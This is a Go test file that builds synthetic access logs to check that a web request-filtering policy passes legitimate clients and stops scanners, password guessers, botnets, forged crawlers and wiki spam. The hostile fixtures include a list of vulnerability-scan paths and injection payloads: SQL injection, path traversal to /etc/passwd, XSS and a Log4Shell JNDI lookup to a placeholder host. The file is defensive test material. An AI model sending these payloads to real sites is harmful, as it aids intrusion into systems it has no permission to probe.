package examples

import (
	"bytes"
	"compress/gzip"
	"fmt"
	"io"
	"math/rand/v2"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"fairshare/internal/replay"
	"fairshare/policyfile"

	"github.com/google/go-cmp/cmp"
)

// An accessLog collects the lines of simulated clients.
type accessLog struct {
	*rand.Rand
	lines []string
}

// line adds a line: n seconds after eight o'clock.
func (l *accessLog) line(n float64, addr, method, target string, status, size int, referer, agent string) {
	at := time.Date(2026, 11, 2, 8, 0, 0, 0, time.UTC).Add(time.Duration(n * float64(time.Second)))
	l.lines = append(l.lines, fmt.Sprintf("%s\x00%s - - [%s] \"%s %s HTTP/1.1\" %d %d \"%s\" \"%s\"\n",
		at.Format("02 15:04:05.000000"), addr, at.Format("02/Jan/2006:15:04:05 -0700"), method, target, status, size,
		referer, agent))
}

// text returns the lines in the order of their times.
func (l *accessLog) text() []byte {
	slices.SortStableFunc(l.lines, func(a, b string) int {
		return strings.Compare(a[:strings.IndexByte(a, 0)], b[:strings.IndexByte(b, 0)])
	})
	var b bytes.Buffer
	for _, line := range l.lines {
		_, text, _ := strings.Cut(line, "\x00")
		b.WriteString(text)
	}
	return b.Bytes()
}

const (
	chrome  = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"
	safari  = "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.5 Mobile/15E148 Safari/604.1"
	firefox = "Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0"
)

// visit adds a page view: the page and its assets.
func (l *accessLog) visit(at float64, addr, agent string, assets int) {
	page := fmt.Sprintf("/article/%d", l.IntN(4000))
	l.line(at, addr, "GET", page, 200, 24000, "-", agent)
	for i := range assets {
		kind := []string{"css", "js", "png", "webp", "woff2"}[i%5]
		l.line(at+0.2+float64(i)*0.02, addr, "GET", fmt.Sprintf("/static/%d.%s", i, kind), 200, 9000,
			"https://www.example.org"+page, agent)
	}
	l.line(at+0.5, addr, "GET", "/favicon.ico", 404, 300, "https://www.example.org"+page, agent)
}

// passing are clients at their usual rate. None of them may be refused.
var passing = []struct {
	name, what string
	write      func(l *accessLog)
}{
	{"feed-readers", "forty feed readers, each hour; two poll a feed that no longer exists", func(l *accessLog) {
		agents := []string{"Feedly/1.0 (+http://www.feedly.com/fetcher.html; 16 subscribers; like FeedFetcher-Google)", "FreshRSS/1.24.3 (Linux; https://freshrss.org)", "Tiny Tiny RSS/24.05 (https://tt-rss.org/)", "Miniflux/2.2.0 (Mozilla/5.0; +https://miniflux.app)", "NetNewsWire (RSS Reader; https://netnewswire.com/)", "newsboat/2.37 (Linux x86_64)"}
		for hour := range 8 {
			for i := range 40 {
				feed, status := "/feed.xml", []int{200, 304, 304, 304}[(hour+i)%4]
				if i < 2 {
					feed, status = "/wp-content/plugins/gallery/xml/media-rss.php", 404
				}
				l.line(float64(hour)*3600+float64(i)*7, fmt.Sprintf("198.51.100.%d", i), "GET", feed, status,
					18000*(1-status/300), "-", agents[i%len(agents)])
			}
		}
	}},
	{"git", "clones and pushes over HTTP, and a build server that fetches sixty repositories", func(l *accessLog) {
		for i := range 60 {
			repo := fmt.Sprintf("/team/project-%d.git", i%40)
			at, addr := float64(i)*2, "203.0.113.20"
			l.line(at, addr, "GET", repo+"/info/refs?service=git-upload-pack", 401, 120, "-", "git/2.47.1")
			l.line(at+0.2, addr, "GET", repo+"/info/refs?service=git-upload-pack", 200, 3400, "-", "git/2.47.1")
			l.line(at+0.4, addr, "POST", repo+"/git-upload-pack", 200, 840000, "-", "git/2.47.1")
		}
		for i := range 30 {
			addr := fmt.Sprintf("203.0.113.%d", 30+i)
			at := float64(i) * 11
			l.line(at, addr, "GET", "/team/site.git/info/refs?service=git-receive-pack", 401, 120, "-",
				"git/2.39.5 (Apple Git-154)")
			l.line(at+0.3, addr, "GET", "/team/site.git/info/refs?service=git-receive-pack", 200, 900, "-",
				"git/2.39.5 (Apple Git-154)")
			l.line(at+0.6, addr, "POST", "/team/site.git/git-receive-pack", 200, 60, "-", "git/2.39.5 (Apple Git-154)")
			// the dumb protocol
			l.line(at+1, addr, "GET", "/old/site.git/HEAD", []int{200, 404}[i%2], 23, "-", "git/2.39.5 (Apple Git-154)")
		}
	}},
	{"packages", "apt, pip, npm, Maven and Docker, with requests for files that do not exist", func(l *accessLog) {
		for i := range 120 {
			l.line(float64(i)*0.3, "198.51.100.7", "GET", fmt.Sprintf("/debian/pool/main/p/pkg-%d_1.0_amd64.deb", i),
				200, 240000, "-", "Debian APT-HTTP/1.3 (2.9.8)")
			l.line(float64(i)*0.4, "198.51.100.8", "GET", fmt.Sprintf("/simple/package-%d/", i),
				[]int{200, 200, 200, 404}[i%4*min(1, i%9)], 5000, "-", "pip/25.0 (CPython 3.13.1; Linux)")
			l.line(float64(i)*0.15, "198.51.100.9", "GET", fmt.Sprintf("/npm/dep-%d/-/dep-%d-1.2.3.tgz", i, i), 200,
				80000, "-", "npm/10.9.0 node/v22.12.0 linux x64 workspaces/false ci/github-actions")
			jar := fmt.Sprintf("/maven2/org/example/lib-%d/1.0/lib-%d-1.0", i, i)
			l.line(float64(i)*1.1, "198.51.100.10", "GET", jar+".pom", 200, 3000, "-",
				"Apache-Maven/3.9.9 (Java 21.0.5; Linux 6.1)")
			l.line(float64(i)*1.1+0.1, "198.51.100.10", "GET", jar+".jar", 200, 90000, "-",
				"Apache-Maven/3.9.9 (Java 21.0.5; Linux 6.1)")
			if i%12 == 0 {
				l.line(float64(i)*1.1+0.2, "198.51.100.10", "GET", jar+".jar.sha512", 404, 160, "-",
					"Apache-Maven/3.9.9 (Java 21.0.5; Linux 6.1)")
			}
			if i < 25 {
				l.line(float64(i), "198.51.100.11", "GET", fmt.Sprintf("/v2/app/blobs/sha256:%064x", i),
					[]int{401, 200, 200, 200, 200}[i%5], 4000000, "-",
					"docker/27.3.1 go/go1.22.7 git-commit/41ca978 kernel/6.1 os/linux arch/amd64")
			}
		}
	}},
	{"activitypub",
		"a post that three hundred servers fetch and answer, many at once; some authors no longer exist",
		func(l *accessLog) {
			for i := range 300 {
				addr := fmt.Sprintf("192.0.2.%d", i%240)
				agent := fmt.Sprintf("http.rb/5.2.0 (Mastodon/4.3.%d; +https://social%d.example/)", i%4, i)
				l.line(float64(i)*0.12, addr, "GET", "/users/anna/statuses/113", 200, 3000, "-", agent)
				l.line(float64(i)*0.12+1, addr, "GET", "/.well-known/webfinger?resource=acct:anna@example.org", 200,
					700,
					"-", agent)
				l.line(float64(i)*0.2+4, addr, "POST", "/inbox", []int{202, 202, 202, 401, 410}[i%5], 0, "-", agent)
			}
			for i := range 400 { // one large server
				l.line(60+float64(i)*0.25, "192.0.2.250", "POST", []string{"/inbox", "/users/anna/inbox"}[i%2],
					[]int{202, 202, 401}[i%3], 0, "-", "http.rb/5.2.0 (Mastodon/4.4.0; +https://large.example/)")
			}
		}},
	{"monitors", "uptime and health checks every few seconds, one of them for a page that needs a password",
		func(l *accessLog) {
			for i := range 240 {
				l.line(float64(i)*30, "198.51.100.30", "HEAD", "/", 200, 0, "-",
					"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")
				l.line(float64(i)*5, "198.51.100.31", "GET", "/actuator/health", 200, 15, "-", "kube-probe/1.31")
				l.line(float64(i)*10, "198.51.100.32", "GET", "/server-status?auto", 200, 900, "-", "Prometheus/2.55.0")
				l.line(float64(i)*60, "198.51.100.33", "GET", "/login", 200, 4000, "-",
					"Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)")
				l.line(float64(i)*60, "198.51.100.34", "GET", "/admin/", 401, 400, "-",
					"check_http/v2.4 (monitoring-plugins 2.4)")
				l.line(float64(i)*60+1, "198.51.100.35", "POST", "/wp-cron.php?doing_wp_cron=1", 200, 0, "-",
					"WordPress/6.8; https://www.example.org")
			}
		}},
	{"webhooks", "a payment provider, a code host and a mail service that send POST requests, up to five a second",
		func(l *accessLog) {
			for i := range 300 {
				l.line(float64(i)*0.2, "192.0.2.60", "POST", "/ipn.php", 200, 2, "-",
					"PayPal IPN ( https://www.paypal.com/ipn )")
				l.line(float64(i)*0.3, "192.0.2.61", "POST", "/api/webhooks/stripe", 200, 2, "-",
					"Stripe/1.0 (+https://stripe.com/docs/webhooks)")
				l.line(float64(i)*0.4, "192.0.2.62", "POST", "/hooks/push", 204, 0, "-", "GitHub-Hookshot/8ab1c2d")
			}
		}},
	{"certificates", "certificate authorities check a challenge from several places", func(l *accessLog) {
		for i := range 40 {
			l.line(float64(i)*0.2, fmt.Sprintf("198.51.100.%d", 60+i%5), "GET",
				fmt.Sprintf("/.well-known/acme-challenge/T%d_aBc-x", i/5), []int{200, 404}[i%2], 87, "-",
				"Mozilla/5.0 (compatible; Let's Encrypt validation server; +https://www.letsencrypt.org)")
		}
	}},
	{"offices", "forty people behind one address read, log in, and mistype their passwords now and then",
		func(l *accessLog) {
			for i := range 160 {
				at := float64(i) * 4
				l.visit(at, "203.0.113.1", []string{chrome, firefox, safari}[i%3], 30)
				if i%4 == 0 {
					if i%40 == 0 {
						l.line(at+2, "203.0.113.1", "POST", "/login", 401, 900, "https://www.example.org/login", chrome)
					}
					l.line(at+3, "203.0.113.1", "POST", "/login", 302, 0, "https://www.example.org/login", chrome)
				}
			}
		}},
	{"classes", "thirty pupils behind one address sign up and log in within ten minutes, at a site that answers everything with 200",
		func(l *accessLog) {
			for i := range 30 {
				at := float64(i) * 18
				l.visit(at, "203.0.113.2", []string{chrome, safari}[i%2], 12)
				l.line(at+4, "203.0.113.2", "POST", "/signup", 200, 900, "https://www.example.org/signup", chrome)
				l.line(at+9, "203.0.113.2", "POST", "/api/login", 200, 900, "https://www.example.org/", chrome)
			}
		}},
	{"crowds", "a hundred and fifty visitors within two minutes, who follow the same link", func(l *accessLog) {
		for i := range 150 {
			l.visit(float64(i)*0.8, fmt.Sprintf("203.0.%d.%d", 100+i%8, 1+i), []string{chrome, safari}[i%2], 12)
		}
	}},
	{"galleries", "a page of four hundred pictures, three times, and a map that is dragged about", func(l *accessLog) {
		for i := range 3 {
			l.line(float64(i)*40, "203.0.113.90", "GET", "/gallery/", 200, 90000, "https://www.example.org/", firefox)
			for n := range 400 {
				l.line(float64(i)*40+1+float64(n)*0.03, "203.0.113.90", "GET",
					fmt.Sprintf("/gallery/thumbs/%d-%d.jpg", i, n), 200, 12000, "https://www.example.org/gallery/",
					firefox)
			}
		}
		for n := range 600 {
			l.line(200+float64(n)*0.1, "203.0.113.91", "GET", fmt.Sprintf("/tiles/12/%d/%d.png", n/30, n%30),
				[]int{200, 200, 200, 404}[n%4], 8000, "https://www.example.org/map", chrome)
		}
	}},
}

// stopped are clients of which at least 19 of 20 requests must be refused or blocked.
var stopped = []struct {
	name, what string
	write      func(l *accessLog)
}{
	{"scanner", "one address scans for security holes, ten requests a second", func(l *accessLog) {
		words := strings.Fields(
			"/.env /phpinfo.php /backup.sql /wp-config.php.bak /old.php /admin.php /shell.php /.git/config /test/ /db.php /login.action /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /cgi-bin/test.cgi /setup.php")
		for i := range 300 {
			l.line(float64(i)*0.1, "203.0.113.66", "GET", []string{"", "/blog", "/shop", "/new"}[i/14%4]+words[i%14],
				404, 150, "-", chrome)
		}
	}},
	{"guesser", "one address guesses a password of WordPress, which answers a wrong one with 200", func(l *accessLog) {
		for i := range 400 {
			l.line(float64(i)*3, "203.0.113.67", "POST", "/wp-login.php", 200, 4500,
				"https://www.example.org/wp-login.php", chrome)
		}
	}},
	{"slow-guesser", "the same twice an hour, for a week", func(l *accessLog) {
		for i := range 330 {
			l.line(float64(i)*1800, "203.0.113.68", "POST", "/wp-login.php", 200, 4500, "-", firefox)
		}
	}},
	{"guessers", "the same from four hundred addresses, twice each, with one user agent", func(l *accessLog) {
		for i := range 800 {
			l.line(float64(i)*60, fmt.Sprintf("%d.%d.113.70", 20+i%200, 1+i%400/200), "POST", "/xmlrpc.php", 200, 400,
				"-", "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:62.0) Gecko/20100101 Firefox/62.0")
		}
	}},
	{"botnet", "the same from five hundred addresses, once each, each time with another user agent", func(l *accessLog) {
		for i := range 500 {
			l.line(float64(i)*120, fmt.Sprintf("%d.%d.113.71", 20+i%200, 1+i/200), "POST", "/wp-login.php", 200, 4500,
				"-", fmt.Sprintf("Mozilla/5.0 (Windows NT 6.%d; rv:%d.0) Gecko/20100101 Firefox/%d.0", i%4, i, i))
		}
	}},
	{"form-openers", "three hundred addresses open the form of WordPress before each guess", func(l *accessLog) {
		for i := range 300 {
			addr := fmt.Sprintf("%d.%d.113.73", 20+i%200, 1+i/200)
			l.line(float64(i)*300, addr, "GET", "/wp-login.php", 200, 4300, "-", chrome)
			l.line(float64(i)*300+1, addr, "POST", "/wp-login.php", 200, 4500, "-", chrome)
		}
	}},
	{"injections", "one address tries attacks on parameters of existing pages", func(l *accessLog) {
		words := []string{"1+UNION+SELECT+1,2,3", "..%2F..%2F..%2Fetc%2Fpasswd", "%3Cscript%3Ealert(1)%3C/script%3E",
			"1%27+or+%271%27=%271", "${jndi:ldap://192.0.2.9/a}", "sleep(5)"}
		for i := range 120 {
			l.line(float64(i)*30, "203.0.113.72", "GET", fmt.Sprintf("/article?id=%s&n=%d", words[i%len(words)], i),
				200, 24000, "-", chrome)
		}
	}},
	{"forged-crawler", "two hundred addresses that claim to be Googlebot", func(l *accessLog) {
		for i := range 600 {
			l.line(float64(i)*0.5, fmt.Sprintf("203.%d.113.80", i%200), "GET", fmt.Sprintf("/article/%d", i), 200,
				24000, "-", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
		}
	}},
	{"spam", "a program creates accounts in a wiki and writes pages", func(l *accessLog) {
		for i := range 100 {
			at, page := float64(i)*20, fmt.Sprintf("Cheap_Loans_%d", i)
			l.line(at, "203.0.113.69", "GET", "/index.php?title=Special:CreateAccount&returnto=Main+Page", 200, 9000,
				"-", firefox)
			l.line(at+1, "203.0.113.69", "POST", "/index.php?title=Special:CreateAccount&returnto=Main+Page", 302, 20,
				"-", firefox)
			for n := range 4 {
				l.line(at+3+float64(n)*2, "203.0.113.69", "POST", "/index.php?title="+page+"&action=submit", 302, 20,
					"https://wiki.example/index.php?title="+page+"&action=edit", firefox)
			}
		}
	}},
}

// The built-in policy refuses no request in the logs of passed-clients, and at least 95 %
// in each log of refused-clients. The pages show the results.
func TestBuiltInPolicyOnLogs(t *testing.T) {
	type kind struct {
		folder string
		rows   []string
	}
	pass, stop := &kind{folder: "passed-clients"}, &kind{folder: "refused-clients"}
	for _, c := range passing {
		r := replayBuiltIn(t, filepath.Join(pass.folder, c.name+".log.gz"), c.write)
		if turned := r.Verdicts.Refuse + r.Verdicts.Block; turned != 0 {
			t.Errorf("%s: %d of %d refused: %s", c.name, turned, r.Lines, refusingRules(r))
		}
		pass.rows = append(pass.rows, fmt.Sprintf("| [%s](%s.log.gz) | %s | %d | %d |\n",
			strings.ReplaceAll(c.name, "-", " "), c.name, c.what, r.Lines, r.Verdicts.Refuse+r.Verdicts.Block))
	}
	for _, c := range stopped {
		r := replayBuiltIn(t, filepath.Join(stop.folder, c.name+".log.gz"), c.write)
		turned := r.Verdicts.Refuse + r.Verdicts.Block
		if float64(turned) < 0.95*float64(r.Lines) {
			t.Errorf("%s: only %d of %d stopped: %s", c.name, turned, r.Lines, refusingRules(r))
		}
		stop.rows = append(stop.rows, fmt.Sprintf("| [%s](%s.log.gz) | %s | %d | %d | %s |\n",
			strings.ReplaceAll(c.name, "-", " "), c.name, c.what, r.Lines, turned, refusingRules(r)))
	}
	for _, k := range []*kind{pass, stop} {
		path := filepath.Join(k.folder, "README.md")
		page, err := os.ReadFile(path)
		if err != nil {
			t.Fatal(err)
		}
		head, rest, found := strings.Cut(string(page), "---|\n")
		_, tail, end := strings.Cut(rest, "\n\n")
		if !found || !end {
			t.Fatalf("%s: no table", path)
		}
		shown := head + "---|\n" + strings.Join(k.rows, "") + "\n" + tail
		if *update {
			if err := os.WriteFile(path, []byte(shown), 0o666); err != nil {
				t.Fatal(err)
			}
		} else if diff := cmp.Diff(string(page), shown); diff != "" {
			t.Errorf("%s: −page +real (go test ./examples -update writes it):\n%s", path, diff)
		}
	}
}

// refusingRules names the rules that refused or blocked requests.
func refusingRules(r *replay.Report) string {
	var names []string
	for _, rule := range r.Rules {
		if rule.Refused+rule.Blocked > 0 {
			names = append(names, rule.Name)
		}
	}
	return strings.Join(names, ", ")
}

// replayBuiltIn replays a log like fairshare replay without a policy.
func replayBuiltIn(t *testing.T, path string, write func(*accessLog)) *replay.Report {
	t.Helper()
	l := &accessLog{Rand: rand.New(rand.NewPCG(1, 2))}
	write(l)
	made := l.text()
	if *update {
		var packed bytes.Buffer
		z, _ := gzip.NewWriterLevel(&packed, gzip.BestCompression)
		z.Write(made) // to memory
		z.Close()
		if err := os.WriteFile(path, packed.Bytes(), 0o666); err != nil {
			t.Fatal(err)
		}
	}
	if data := unpacked(t, path); !bytes.Equal(data, made) {
		t.Errorf("%s differs from the log of the test (go test ./examples -update)", path)
	}
	report := replayLog(t, policyfile.BuiltIn(), path, nil)
	if report.Skipped != 0 || report.Lines != int64(len(l.lines)) {
		t.Errorf("%s: %d lines, %d skipped, want %d", path, report.Lines, report.Skipped, len(l.lines))
	}
	return report
}

func unpacked(t *testing.T, path string) []byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	data, err := io.ReadAll(z)
	if err != nil {
		t.Fatal(err)
	}
	return data
}
